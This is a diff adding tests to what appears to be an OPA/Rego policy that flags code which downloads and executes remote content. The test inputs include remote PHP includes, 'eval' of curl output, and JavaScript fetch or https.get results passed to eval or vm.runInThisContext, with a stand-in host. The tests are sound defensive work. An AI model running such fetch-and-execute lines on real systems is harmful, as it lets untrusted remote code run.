@@ -89,3 +89,16 @@ test_a_variable_as_command if {
 test_system_of_a_module if {
 	count(run_download.deny) == 1 with input as python("__import__('os').system(urlopen('…').read())")
 }
+
+test_an_address_as_code if {
+	every text in [`include "http://a.example/x";`, "require_once('http://a.example/x');", "eval `curl -s a.example`", "exec(`curl a.example`)"] {
+		count(run_download.deny) == 1 with input as python(text)
+	}
+	count(run_download.deny) == 0 with input as python("include 'x.php'; // http://a.example")
+}
+
+test_code_that_runs_what_it_fetched if {
+	count(run_download.deny) == 1 with input as python("fetch('…').then(r => r.text()).then(eval)")
+	count(run_download.deny) == 1 with input as python("require('https').get('…', r => vm.runInThisContext(r))")
+	count(run_download.deny) == 0 with input as python("fetch('…').then(r => r.json()).then(show)")
+}
